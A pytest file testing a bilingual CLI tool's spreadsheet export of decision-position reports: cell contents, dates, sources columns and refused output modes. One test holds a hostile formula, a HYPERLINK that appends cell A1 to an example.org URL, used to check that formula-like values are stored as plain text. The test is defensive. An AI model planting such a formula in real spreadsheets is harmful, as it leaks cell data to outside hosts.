"""`--format xlsx -o FILE` of list, compare and timeline through Typer's CliRunner, read back
with openpyxl: the labels of --lang, the memo's cells (the same as the HTML document's), dates
as dates, the sources, the state line; never printed, refused by the reports that are no one
table; openpyxl loaded only by the command that writes a spreadsheet."""

from __future__ import annotations

import csv
import datetime
import io
import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from openpyxl.worksheet.worksheet import Worksheet
from typer.testing import CliRunner

from ..conftest import invoke, loaded_modules, minimal, write
from ..render.test_html import cells, parse
from ..render.test_xlsx import read, sheet_xml, values

LIST_EN = ["ID", "Decision", "Date", "Stance", "Goal shared", "Means differ"]
LIST_NL = ["ID", "Besluit", "Datum", "Standpunt", "Doel gedeeld", "Middelen verschillen"]


def _sheet(runner: CliRunner, *args: str) -> tuple[Worksheet, bytes]:
    """Run a report with `--format xlsx -o report.xlsx`: its sheet and the file's bytes, after
    checking that nothing was printed but the file's name."""
    code, out, err = invoke(runner, *args, "--format", "xlsx", "-o", "report.xlsx")
    assert (code, out, err) == (0, "", "wrote report.xlsx\n")
    data = Path("report.xlsx").read_bytes()
    return read(data), data


def _as_text(value: Any) -> str:
    """A cell's value as the HTML document writes it: a date as its ISO day, none as ""."""
    if isinstance(value, datetime.datetime):
        return value.date().isoformat()
    return "" if value is None else str(value)


def _table(sheet: Worksheet) -> list[list[Any]]:
    """The rows the sheet's filter covers: the head row and the body."""
    ref = sheet.auto_filter.ref
    assert ref is not None
    last = int(ref.split(":")[1].lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ"))
    return values(sheet)[:last]


def test_list_in_english_and_dutch_is_the_memos_table_with_dates_as_dates(
    runner: CliRunner, bundled: Path
) -> None:
    sheet, _ = _sheet(runner, "list")
    assert sheet.title == "Positions"
    assert values(sheet)[0] == LIST_EN
    assert values(sheet)[1] == [
        "paris-agreement",
        "Withdrawal from the Paris climate agreement",
        datetime.datetime(2017, 6, 1),
        "critical",
        "not stated",
        "not stated",
    ]
    assert sheet["C2"].number_format == "yyyy-mm-dd"
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:F6")
    assert [cell.font.b for cell in sheet[1]] == [True] * 6
    sheet, _ = _sheet(runner, "list", "--lang", "nl")
    assert sheet.title == "Standpunten"
    assert values(sheet)[0] == LIST_NL
    assert values(sheet)[1][:4] == [
        "paris-agreement",
        "Terugtrekking uit het klimaatakkoord van Parijs",
        datetime.datetime(2017, 6, 1),
        "kritisch",
    ]


def test_list_has_the_cells_of_the_html_document_and_its_state_line_under_them(
    runner: CliRunner, bundled: Path
) -> None:
    args = ["list", "--lang", "nl", "-c", "id,title,date,summary,topics,updated", "--disagree"]
    sheet, _ = _sheet(runner, *args)
    code, out, _ = invoke(runner, *args, "--format", "html")
    assert code == 0
    heads, body = cells(parse(out))
    table = _table(sheet)
    assert table[0] == heads
    assert [[_as_text(value) for value in row] for row in table[1:]] == body
    assert isinstance(table[1][2], datetime.datetime)
    assert isinstance(table[1][5], datetime.datetime)
    state = parse(out).all("p")[-1].words()
    assert state.startswith("Stand van het register: ")
    assert values(sheet)[len(table)] == [None] * 6
    assert values(sheet)[len(table) + 1] == [state, *[None] * 5]
    assert len(values(sheet)) == len(table) + 2


def test_list_with_sources_has_a_sources_column_naming_what_each_quote_supports(
    runner: CliRunner, bundled: Path
) -> None:
    sheet, _ = _sheet(runner, "list", "--sources")
    assert values(sheet)[0] == [*LIST_EN, "Sources"]
    assert sheet.auto_filter.ref == "A1:G6"
    jcpoa = next(row for row in values(sheet) if row[0] == "jcpoa")
    lines = jcpoa[-1].split("\n")
    assert [line.split(": “")[0] for line in lines] == [
        "[1] Date, Stance",
        "[2] Stance",
        "[3] Goal shared, Means differ",
    ]
    assert lines[2].startswith("[3] Goal shared, Means differ: “In een aantal gevallen bestaat")
    assert lines[2].endswith("” — Bondgenoten in onzekere tijden (kamerbrief, date not stated).")
    sheet, _ = _sheet(runner, "list", "--sources", "--lang", "nl")
    assert values(sheet)[0][-1] == "Bronnen"


def test_a_quote_with_no_text_to_check_is_marked_in_the_sources_column(
    runner: CliRunner, empty_register: Path
) -> None:
    write(empty_register, "a-decision.yaml", minimal())
    sheet, _ = _sheet(runner, "list", "--sources")
    assert values(sheet)[1][-1] == (
        "[1] Date, Stance: “Wij vinden er iets van.” — Een brief (kamerbrief, 3 February "
        "2019); not checked against a source text."
    )


def test_compare_is_the_holders_side_by_side_with_dates_as_dates(
    runner: CliRunner, bundled: Path
) -> None:
    sheet, _ = _sheet(runner, "compare", "--on", "2019-01-01")
    assert sheet.title == "Holders compared"
    assert values(sheet)[0] == ["ID", "Decision", "Date", "The Netherlands (NL)", "Europe (EU)"]
    assert values(sheet)[4] == [
        "jcpoa",
        "Unilateral withdrawal from the JCPOA (Iran nuclear deal)",
        datetime.datetime(2018, 5, 8),
        "critical; goal shared: yes; means differ: yes",
        "critical; goal shared: yes; means differ: yes",
    ]
    assert sheet.auto_filter.ref == "A1:E6"
    assert values(sheet)[-1][0].endswith("selection: in force on 1 January 2019.")
    sheet, _ = _sheet(runner, "compare", "--lang", "nl", "--sources")
    assert sheet.title == "Partijen vergeleken"
    assert values(sheet)[0] == [
        "ID",
        "Besluit",
        "Datum",
        "Nederland (NL)",
        "Europa (EU)",
        "Bronnen",
    ]
    jcpoa = next(row for row in values(sheet) if row[0] == "jcpoa")
    assert [line.split(": “")[0] for line in jcpoa[-1].split("\n")] == [
        "[1] Nederland (NL)",
        "[2] Nederland (NL), Europa (EU)",
        "[3] Nederland (NL), Europa (EU)",
    ]


def test_timeline_has_each_event_on_its_day_and_a_partial_date_as_text(
    runner: CliRunner, empty_register: Path
) -> None:
    text = minimal().replace("  date: 2019-01-02\n", "  date: 2019-03\n")
    text = text.replace(
        "    en: Something was decided.\n",
        "    en: Something was decided.\n  milestones:\n    - date: 2020\n"
        "      description:\n        nl: =Het gaat in.\n        en: =It takes effect.\n",
    )
    write(empty_register, "a-decision.yaml", text)
    code, out, _ = invoke(runner, "timeline", "--format", "json")
    assert code == 0
    assert [json.loads(line.rstrip(",\n"))["date"] for line in out.splitlines()[1:-1]] == [
        "2019-03",
        "2019-03",
        "2020",
    ]
    sheet, data = _sheet(runner, "timeline", "--lang", "nl")
    assert sheet.title == "Tijdlijn"
    assert _table(sheet) == [
        ["Datum", "ID", "Gebeurtenis", "Partij", "Standpunt", "Omschrijving"],
        ["maart 2019", "a-decision", "besluit", None, None, "Een besluit"],
        ["maart 2019", "a-decision", "standpunt", "NL", "kritisch", None],
        ["2020", "a-decision", "mijlpaal", None, None, "=Het gaat in."],
    ]
    assert sheet["F4"].data_type == "s"
    assert "<f>" not in sheet_xml(data)


def test_timeline_of_the_bundled_register_has_its_days_as_dates(
    runner: CliRunner, bundled: Path
) -> None:
    sheet, _ = _sheet(runner, "timeline")
    code, out, _ = invoke(runner, "timeline", "--format", "json")
    assert code == 0
    days = [json.loads(line.rstrip(",\n"))["date"] for line in out.splitlines()[1:-1]]
    table = _table(sheet)
    assert table[0] == ["Date", "ID", "Event", "Holder", "Stance", "Description"]
    assert [row[0].date().isoformat() for row in table[1:]] == days
    assert {sheet.cell(n, 1).number_format for n in range(2, len(table) + 1)} == {"yyyy-mm-dd"}


def test_a_value_like_a_formula_is_text_in_the_sheet(
    runner: CliRunner, empty_register: Path
) -> None:
    hostile = '=HYPERLINK("http://example.org/?q="&A1,"click")'
    text = minimal().replace("  en: A decision\n", f"  en: '{hostile}'\n")
    text = text.replace("  en: The Netherlands has a view.\n", "  en: '@SUM(1)'\n")
    write(empty_register, "a-decision.yaml", text)
    sheet, data = _sheet(runner, "list", "-c", "id,title,summary")
    assert values(sheet)[1] == ["a-decision", hostile, "@SUM(1)"]
    assert {cell.data_type for cell in sheet[2]} == {"s"}
    assert "<f>" not in sheet_xml(data)


@pytest.mark.parametrize("command", [["list"], ["compare"], ["timeline"]])
def test_a_spreadsheet_is_never_printed(
    runner: CliRunner, bundled: Path, command: list[str]
) -> None:
    for where in ([], ["-o", "-"]):
        code, out, err = invoke(runner, *command, "--format", "xlsx", *where)
        assert (code, out) == (2, "")
        assert "Invalid value for --output: xlsx is a file format, never printed: name" in err
        assert "the file to write with -o FILE.xlsx" in " ".join(err.replace("│", "").split())


@pytest.mark.parametrize("command", [["show", "jcpoa"], ["matrix"], ["diff"], ["log"]])
def test_a_report_that_is_no_one_table_offers_no_spreadsheet(
    runner: CliRunner, bundled: Path, command: list[str]
) -> None:
    code, out, err = invoke(runner, *command, "--format", "xlsx", "-o", "report.xlsx")
    assert (code, out) == (2, "")
    assert "'xlsx' is not one of" in err
    assert not Path("report.xlsx").exists()


def test_the_html_options_are_refused_with_a_spreadsheet(runner: CliRunner, bundled: Path) -> None:
    code, out, err = invoke(runner, "list", "-f", "xlsx", "-o", "l.xlsx", "--fragment")
    assert (code, out) == (2, "")
    assert "--fragment needs --format html" in err


def test_a_spreadsheet_is_not_written_into_the_register(runner: CliRunner, bundled: Path) -> None:
    code, out, err = invoke(runner, "list", "-f", "xlsx", "-o", "positions/list.xlsx")
    assert (code, out) == (2, "")
    assert err == (
        "error: positions/list.xlsx is inside the register folder positions: a report is "
        "never written there; choose a path outside it\n"
    )
    assert not (bundled / "list.xlsx").exists()


def _loads_openpyxl(*args: str) -> bool:
    """Whether `posities ARGS` imports openpyxl."""
    return "openpyxl" in loaded_modules(*args)


def test_only_a_spreadsheet_loads_openpyxl(bundled: Path) -> None:
    assert not _loads_openpyxl("list")
    assert not _loads_openpyxl("list", "--format", "html")
    assert not _loads_openpyxl("timeline", "--format", "csv")
    assert _loads_openpyxl("list", "--format", "xlsx", "-o", "list.xlsx")


def test_libreoffice_reads_the_cells_as_they_were_written(
    runner: CliRunner, empty_register: Path, tmp_path: Path
) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    title = "=1+1 _x0041_ #N/A"
    text = minimal().replace("  en: A decision\n", f"  en: '{title}'\n")
    write(empty_register, "a-decision.yaml", text)
    sheet, _ = _sheet(runner, "list", "--sources")
    profile = (tmp_path / "profile").as_uri()
    into_csv = ["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76"]
    done = subprocess.run(
        [soffice, f"-env:UserInstallation={profile}", "--headless", *into_csv, "report.xlsx"],
        cwd=tmp_path / "work",
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    shown = Path("report.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(shown)))
    assert rows[1][:3] == ["a-decision", title, "2019-01-02"]
    written = [[_as_text(value) for value in row] for row in values(sheet)]
    written[1][2] = "2019-01-02"
    assert rows == written
